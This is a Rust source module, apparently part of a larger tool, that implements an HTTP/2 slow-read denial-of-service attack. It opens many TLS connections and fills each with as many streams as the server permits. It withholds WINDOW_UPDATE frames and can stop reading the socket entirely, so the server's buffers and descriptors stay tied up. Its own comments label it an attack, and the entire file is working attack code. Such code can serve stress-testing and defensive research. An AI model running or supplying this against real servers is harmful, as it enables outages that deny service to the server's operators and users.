//! HTTP/2 connections that open as many streams as the server allows and never read the
//! responses: the stream windows stay closed (no WINDOW_UPDATE is ever sent) and, with
//! [`Unread::socket`], the socket is not read either, so the server's writes back up into its
//! own buffers. The server holds each stream (an open file for a static response, buffers,
//! often a descriptor) until it decides to give up on it.

use std::pin::Pin;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::task::{Context, Poll};
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncWrite, ReadBuf};
use tokio::sync::Semaphore;
use tokio::task::JoinHandle;

use crate::{tls, Target};

/// What to leave unread.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Unread {
    /// Frames are read (PINGs answered, SETTINGS acknowledged) but stream data is never
    /// consumed: the server sees a live client with full windows.
    Streams,
    /// After the requests are out, the socket is not read at all.
    Socket,
}

/// How to attack.
#[derive(Debug, Clone)]
pub struct UnreadPlan {
    pub connections: usize,
    /// Streams asked for per connection (the server's SETTINGS may allow fewer).
    pub streams: usize,
    pub path: String,
    pub headers: Vec<(String, String)>,
    pub unread: Unread,
    /// The stream window the client announces (the server may send this much per stream
    /// before it must wait).
    pub window: u32,
}

impl UnreadPlan {
    pub fn new(connections: usize, streams: usize, path: &str) -> Self {
        Self {
            connections,
            streams,
            path: path.into(),
            headers: Vec::new(),
            unread: Unread::Streams,
            window: 65_535,
        }
    }
}

#[derive(Debug, Default)]
pub struct UnreadCounts {
    pub connections: AtomicUsize,
    pub refused: AtomicUsize,
    /// Streams the server accepted (requests sent while it allowed more).
    pub streams: AtomicUsize,
    /// Connections the server ended (GOAWAY, reset, close).
    pub closed_by_server: AtomicUsize,
}

/// The connections with their unread streams, held until dropped.
pub struct UnreadStreams {
    pub counts: Arc<UnreadCounts>,
    tasks: Vec<JoinHandle<()>>,
}

/// How long one connection waits for the server to allow another stream before it stops
/// asking (it has then opened all it may).
const STREAM_SLOT_WAIT: Duration = Duration::from_secs(2);

impl UnreadStreams {
    /// Opens the connections (64 handshakes at a time) and their streams; returns once every
    /// connection has sent what it could.
    pub async fn open(target: &Target, plan: &UnreadPlan) -> Self {
        let counts = Arc::new(UnreadCounts::default());
        let Ok(connector) = tls::connector(&[b"h2"]) else {
            counts
                .refused
                .fetch_add(plan.connections, Ordering::Relaxed);
            return Self {
                counts,
                tasks: Vec::new(),
            };
        };
        let gate = Arc::new(Semaphore::new(64));
        let (ready_tx, mut ready_rx) = tokio::sync::mpsc::channel::<()>(plan.connections.max(1));
        let mut tasks = Vec::new();
        for _ in 0..plan.connections {
            let (target, connector, counts, gate, ready, plan) = (
                target.clone(),
                connector.clone(),
                Arc::clone(&counts),
                Arc::clone(&gate),
                ready_tx.clone(),
                plan.clone(),
            );
            tasks.push(tokio::spawn(async move {
                let permit = gate.acquire_owned().await;
                let connected = tls::connect(&target, &connector).await;
                drop(permit);
                let tls = match connected {
                    Ok(tls) if tls::is_h2(&tls) => tls,
                    _ => {
                        counts.refused.fetch_add(1, Ordering::Relaxed);
                        let _ = ready.send(()).await;
                        return;
                    }
                };
                let reading = Arc::new(AtomicBool::new(true));
                let io = Gated {
                    inner: tls,
                    reading: Arc::clone(&reading),
                };
                let handshake = h2::client::Builder::new()
                    .initial_window_size(plan.window)
                    .initial_connection_window_size(plan.window.saturating_mul(4))
                    .handshake::<_, bytes::Bytes>(io)
                    .await;
                let Ok((mut sender, connection)) = handshake else {
                    counts.refused.fetch_add(1, Ordering::Relaxed);
                    let _ = ready.send(()).await;
                    return;
                };
                counts.connections.fetch_add(1, Ordering::Relaxed);
                let mut driver = tokio::spawn(connection);
                // Held, never polled: dropping them would reset the streams.
                let mut held = Vec::new();
                for _ in 0..plan.streams {
                    let Ok(Ok(ready_sender)) =
                        tokio::time::timeout(STREAM_SLOT_WAIT, sender.clone().ready()).await
                    else {
                        break;
                    };
                    sender = ready_sender;
                    let mut request = target.request("GET", &plan.path);
                    for (name, value) in &plan.headers {
                        request = request.header(name, value);
                    }
                    let Ok(request) = request.body(()) else { break };
                    match sender.send_request(request, true) {
                        Ok((response, _)) => {
                            counts.streams.fetch_add(1, Ordering::Relaxed);
                            held.push(response);
                        }
                        Err(_) => break,
                    }
                }
                // Let the requests reach the server before the socket goes unread.
                tokio::time::sleep(Duration::from_millis(200)).await;
                if plan.unread == Unread::Socket {
                    reading.store(false, Ordering::Relaxed);
                }
                let _ = ready.send(()).await;
                let _ = (&mut driver).await;
                counts.closed_by_server.fetch_add(1, Ordering::Relaxed);
                drop(held);
            }));
        }
        drop(ready_tx);
        for _ in 0..plan.connections {
            if ready_rx.recv().await.is_none() {
                break;
            }
        }
        Self { counts, tasks }
    }
}

impl Drop for UnreadStreams {
    fn drop(&mut self) {
        for task in &self.tasks {
            task.abort();
        }
    }
}

/// An I/O whose reads stop (stay pending, for good) once `reading` is cleared; writes pass.
struct Gated<T> {
    inner: T,
    reading: Arc<AtomicBool>,
}

impl<T: AsyncRead + Unpin> AsyncRead for Gated<T> {
    fn poll_read(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &mut ReadBuf<'_>,
    ) -> Poll<std::io::Result<()>> {
        if !self.reading.load(Ordering::Relaxed) {
            return Poll::Pending;
        }
        Pin::new(&mut self.inner).poll_read(cx, buf)
    }
}

impl<T: AsyncWrite + Unpin> AsyncWrite for Gated<T> {
    fn poll_write(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        data: &[u8],
    ) -> Poll<std::io::Result<usize>> {
        Pin::new(&mut self.inner).poll_write(cx, data)
    }

    fn poll_flush(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        Pin::new(&mut self.inner).poll_flush(cx)
    }

    fn poll_shutdown(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        Pin::new(&mut self.inner).poll_shutdown(cx)
    }
}
